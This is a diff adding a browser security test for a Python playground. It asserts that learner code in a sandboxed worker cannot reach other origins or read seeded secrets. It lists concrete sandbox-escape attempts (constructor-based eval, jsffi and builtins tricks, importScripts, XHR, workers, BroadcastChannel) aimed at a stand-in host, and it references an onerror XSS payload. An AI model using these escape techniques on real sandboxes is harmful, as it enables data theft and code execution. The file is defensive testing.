@@ -1,0 +1,320 @@
+// Nothing that the learner's code does reaches out of its room: not to another origin, not to the page's. Twice: from
+// Python, as a link would bring it, and from JavaScript that has taken the runner's place (intruder.js). The page has a
+// strict policy here, which its room inherits.
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { once } from "node:events";
+import { readFile } from "node:fs/promises";
+import { createServer } from "node:http";
+import { after, before, beforeEach, describe, test } from "node:test";
+import { roomPage } from "../../scripts/room.mjs";
+import { openLab } from "./lab.js";
+
+const CONSOLE = ".console-entries";
+const OTHER = "http://other/";
+const SECRET = "the secret of the origin";
+const INTRUDER = await readFile("tests/browser/intruder.js", "utf8");
+const { hash: ROOM } = await roomPage();
+
+/** Serves on a free port of localhost. */
+async function listen(server) {
+  server.listen(0, "localhost");
+  await once(server, "listening");
+  return `http://localhost:${server.address().port}/`;
+}
+
+/** What came to another origin: it answers whoever asks. */
+const arrived = [];
+const other = createServer((request, response) => {
+  arrived.push(request.url);
+  response.writeHead(200, {
+    "access-control-allow-origin": "*",
+    "content-type": request.url === "/events" ? "text/event-stream" : "text/javascript",
+  });
+  response.end(request.url === "/worker.js" ? 'postMessage("through")' : "");
+}).on("upgrade", (request, socket) => {
+  arrived.push(request.url);
+  socket.destroy();
+});
+
+/** What the room asked of the site. */
+const stolen = [];
+let isIntruded = false;
+let site = "";
+
+/** @param {string} html */
+function policyOf(html) {
+  const hashes = Array.from(
+    html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g),
+    ([, script]) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`,
+  );
+  return [
+    "default-src 'self'",
+    `script-src 'self' 'wasm-unsafe-eval' ${hashes.join(" ")} ${ROOM}`,
+    "worker-src 'self' blob:",
+    "style-src 'self' 'unsafe-inline'",
+    "img-src 'self' data: blob:",
+    "frame-src 'none'",
+  ].join("; ");
+}
+
+/** The site with a policy, and with another runner when it is intruded. */
+const front = createServer(async (request, response) => {
+  const path = request.url ?? "/";
+  if (/stolen|intruder|blank/.test(path)) {
+    if (path.includes("stolen")) stolen.push(path);
+    const isPage = path.includes("blank");
+    response.writeHead(200, { "content-type": isPage ? "text/html" : "text/javascript" });
+    return response.end(path.includes("intruder") ? INTRUDER : isPage ? "<!doctype html>" : 'postMessage("through")');
+  }
+  const answer = await fetch(new URL(path, site));
+  const type = answer.headers.get("content-type") ?? "";
+  const body =
+    isIntruded && /python-runner[^/]*\.js$/.test(path)
+      ? Buffer.from(INTRUDER)
+      : Buffer.from(await answer.arrayBuffer());
+  const policy = type.startsWith("text/html") ? { "content-security-policy": policyOf(String(body)) } : {};
+  response.writeHead(answer.status, { "content-type": type, ...policy }).end(body);
+});
+
+let lab;
+let elsewhere;
+
+before(async () => {
+  elsewhere = await listen(other);
+  lab = await openLab(async (url) => {
+    site = url;
+    return (await listen(front)) + new URL(url).pathname.slice(1);
+  });
+  await lab.driver.get(`${lab.url}blank`);
+  await lab.driver.executeAsyncScript(
+    `const [secret, done] = arguments;
+     localStorage.secret = secret;
+     const opening = indexedDB.open("secrets");
+     opening.onupgradeneeded = () => opening.result.createObjectStore("secrets").put(secret, 1);
+     opening.onsuccess = async () => {
+       opening.result.close();
+       await (await caches.open("secrets")).put("secret", new Response(secret));
+       done();
+     };`,
+    SECRET,
+  );
+});
+after(async () => {
+  await lab?.close();
+  for (const server of [other, front]) {
+    server.close();
+    server.closeAllConnections();
+  }
+});
+
+/** Opens the page anew, which hears what is broadcast, and keeps what reaches its window. */
+async function open() {
+  arrived.length = stolen.length = 0;
+  if ((await lab.driver.getCurrentUrl()).startsWith(lab.url)) {
+    await lab.run(`localStorage.removeItem("micrograd-playground.code")`);
+  }
+  await lab.load();
+  await ended("the page");
+  await lab.run(`
+    window.heard = [];
+    window.channel = new BroadcastChannel("secrets");
+    window.channel.onmessage = ({ data }) => window.heard.push(data);
+    addEventListener("message", ({ data }) => window.heard.push(data));`);
+}
+
+/** Waits until no code runs. @param {string} name */
+const ended = (name) =>
+  lab.until(
+    () =>
+      lab.run(`return document.querySelector(".cm-editor") !== null
+        && document.querySelector("#lab-code-pane").dataset.run === "ended"`),
+    `${name} never ended`,
+  );
+
+/** Runs code as one who presses Run. */
+async function runs(code) {
+  await lab.paste(code);
+  await (await lab.button("Run")).click();
+}
+
+async function nothingWasReached() {
+  assert.deepEqual(arrived, []);
+  assert.deepEqual(stolen, []);
+  assert.deepEqual(await lab.run("return window.heard"), []);
+}
+
+test("the attempts of the intruder succeed where there is no room", async () => {
+  isIntruded = false;
+  arrived.length = stolen.length = 0;
+  await lab.driver.get(`${lab.url}blank`);
+  const report = await lab.driver.executeAsyncScript(
+    `const [code, done] = arguments;
+     const heard = [];
+     const channel = new BroadcastChannel("secrets");
+     channel.onmessage = ({ data }) => heard.push(data);
+     const worker = new Worker("intruder.js");
+     worker.onmessage = ({ data }) => {
+       if (data.type === "outputs") done([data.outputs[0].text, heard.join()]);
+     };
+     worker.postMessage({ files: {} });
+     worker.postMessage({ id: 1, source: code });`,
+    `# attempts ${elsewhere} ${lab.url}`,
+  );
+  const outcomes = JSON.parse(report[0]);
+  const through = Object.keys(outcomes).filter((name) => outcomes[name].startsWith("through"));
+  for (const name of [
+    ...["fetch", "XMLHttpRequest", "EventSource", "importScripts", "import", "eval", "constructor", "a worker within"],
+    ...["indexedDB", "caches", "locks", "a worker of the site", "importScripts from the site", "fetch from the site"],
+  ]) {
+    assert.ok(through.includes(name), `${name}: ${outcomes[name]}`);
+  }
+  assert.equal(outcomes.indexedDB, `through: ${SECRET}`);
+  assert.equal(outcomes.caches, `through: ${SECRET}`);
+  assert.equal(report[1], "through", "the broadcast is heard");
+  for (const path of ["/fetch", "/xhr", "/events", "/script.js", "/module.js", "/nested", "/"]) {
+    assert.ok(arrived.includes(path), `${path} among ${arrived}`);
+  }
+  assert.ok(stolen.length > 0);
+});
+
+describe("from Python", () => {
+  before(() => {
+    isIntruded = false;
+  });
+  beforeEach(open);
+
+  /** JavaScript's own names: the guard's memory can be reached from any of our functions. */
+  const OPENED = 'draw.__globals__["imports"].depth = 1\nimport js';
+
+  const WAYS = {
+    "the constructor of a JavaScript function": `import micrograd.engine as e
+e._engine.limit.constructor("fetch('${OTHER}constructor')")()`,
+    "the constructor through jsffi": `draw.__globals__["imports"].depth = 1
+import jsffi
+jsffi.to_js([1]).constructor.constructor("fetch('${OTHER}jsffi')")()`,
+    "the import of builtins": `draw.__globals__["imports"].depth = 1
+import builtins
+builtins.__import__("js").importScripts("${OTHER}builtins")`,
+    importScripts: `${OPENED}\njs.importScripts("${OTHER}script.js")`,
+    eval: `${OPENED}\njs.eval("fetch('${OTHER}eval')")`,
+    XMLHttpRequest: `${OPENED}
+request = js.XMLHttpRequest.new()
+request.open("GET", "${OTHER}xhr", False)
+request.send()`,
+    "the prototype's fetch": `${OPENED}
+prototype = js.WorkerGlobalScope.prototype
+js.Reflect.apply(js.Reflect.get(prototype, "fetch") or js.fetch, js.self, js.Array.of("${OTHER}fetch"))`,
+    "a worker": `${OPENED}\njs.Worker.new("${OTHER}worker.js")`,
+    indexedDB: `${OPENED}\nprint(js.indexedDB.open("secrets").result)`,
+    caches: `${OPENED}\nprint(js.caches.open("secrets"))`,
+    localStorage: `${OPENED}\nprint(js.localStorage.secret)`,
+    BroadcastChannel: `${OPENED}\njs.BroadcastChannel.new("secrets").postMessage("hello")`,
+    parent: `${OPENED}\njs.parent.postMessage("hello", "*")`,
+  };
+
+  test("the guard speaks first", async () => {
+    await runs("import js");
+    await lab.says("#lab-status", /no module 'js' here/);
+  });
+
+  test("no way out leads anywhere", async () => {
+    for (const [name, code] of Object.entries(WAYS)) {
+      // What comes of it is printed, and shown as an error when JavaScript throws.
+      const lines = code
+        .replaceAll(OTHER, elsewhere)
+        .split("\n")
+        .map((line) => `    ${line}`);
+      await runs(
+        `print("trying ${name}")\ntry:\n${lines.join("\n")}\n    print("done")\nexcept BaseException as error:\n    print("refused:", error)`,
+      );
+      await lab.says(CONSOLE, new RegExp(`^trying ${name}`));
+      await ended(name);
+      const outcome = `${name}: ${await lab.text(CONSOLE)}; ${await lab.text("#lab-status")}`;
+      if (process.env.SHOW) console.log(outcome);
+      assert.ok(!outcome.includes(SECRET), outcome);
+    }
+    await nothingWasReached();
+    await runs("print('alive')");
+    await lab.says(CONSOLE, /^alive$/);
+  });
+
+  test("a forged message ends the run that sent it, and no other", async () => {
+    await runs(`${OPENED}\njs.postMessage("forged")\nprint("after")`);
+    await lab.says("#lab-status", /^Refused: .*a reply should be a plain object/);
+    await nothingWasReached();
+    await runs("print('alive')");
+    await lab.says(CONSOLE, /^alive$/);
+  });
+});
+
+describe("from JavaScript in the runner's place", () => {
+  before(() => {
+    isIntruded = true;
+  });
+  beforeEach(open);
+
+  test("no way out leads anywhere", async () => {
+    await runs(`# attempts ${elsewhere} ${lab.url}`);
+    await lab.says(CONSOLE, /^\{/);
+    const outcomes = JSON.parse(await lab.text(CONSOLE));
+    assert.ok(Object.keys(outcomes).length > 20);
+    const through = Object.entries(outcomes).filter(([, outcome]) => !/^(refused|absent)/.test(outcome));
+    assert.deepEqual(through, []);
+    await nothingWasReached();
+    assert.ok(!(await lab.text(CONSOLE)).includes(SECRET));
+  });
+
+  test("markup is shown as text, wherever it comes", async () => {
+    const title = await lab.driver.getTitle();
+    await runs("# markup");
+    await lab.until(
+      () =>
+        lab.run(`return document.querySelectorAll("#graph-svg .value").length === 2
+        && document.querySelector(".console-chart svg") !== null`),
+      "the recording was never shown",
+    );
+    assert.equal(await lab.run(`return document.querySelectorAll("#graph [onerror]").length`), 0);
+    for (const place of [".console-text", ".console-note", ".console-repr", ".console-chart", "#graph-svg"]) {
+      assert.match(await lab.text(place), /<img src="x" onerror=/, place);
+    }
+    assert.equal(await lab.driver.getTitle(), title);
+  });
+
+  for (const [deed, reason] of Object.entries({
+    kind: /outputs\[0\]\.kind should be one of/,
+    operand: /recording\.a\[1\] should be an earlier place/,
+    length: /recording\.data should be a Float64Array of 2/,
+    series: /outputs\[0\]\.series\[0\]\.y should be a list of 1 numbers/,
+    polluted: /type should be one of/,
+    flood: /more than a page can take/,
+    huge: /more than a page can take/,
+    outputs: /more than a page can take|letters in what it gives back/,
+  })) {
+    test(`a reply that is none is refused: ${deed}`, async () => {
+      await runs(`# ${deed}`);
+      await lab.says("#lab-status", /^Refused: /);
+      assert.match(await lab.text("#lab-status"), reason);
+      assert.equal(await lab.run(`return "type" in {} || "id" in {}`), false);
+      await runs(`# attempts ${elsewhere} ${lab.url}`);
+      await lab.says(CONSOLE, /^\{/);
+    });
+  }
+
+  test("Stop ends a loop within a second, also where a result for another run was sent", async () => {
+    for (const deed of ["loop", "foreign"]) {
+      await runs(`# ${deed}`);
+      await lab.until(() => lab.run(`return !document.querySelector("#lab-stop").disabled`), "it never began");
+      const took = await lab.driver.executeAsyncScript(`
+        const done = arguments[0];
+        const began = performance.now();
+        document.querySelector("#lab-stop").click();
+        const pane = document.querySelector("#lab-code-pane");
+        const look = () => pane.dataset.run === "ended"
+          ? done(performance.now() - began) : requestAnimationFrame(look);
+        look();`);
+      assert.ok(took < 1000, `${deed} took ${took} ms`);
+      assert.equal(await lab.text("#lab-status"), "Stopped. The code is still there.");
+    }
+  });
+});
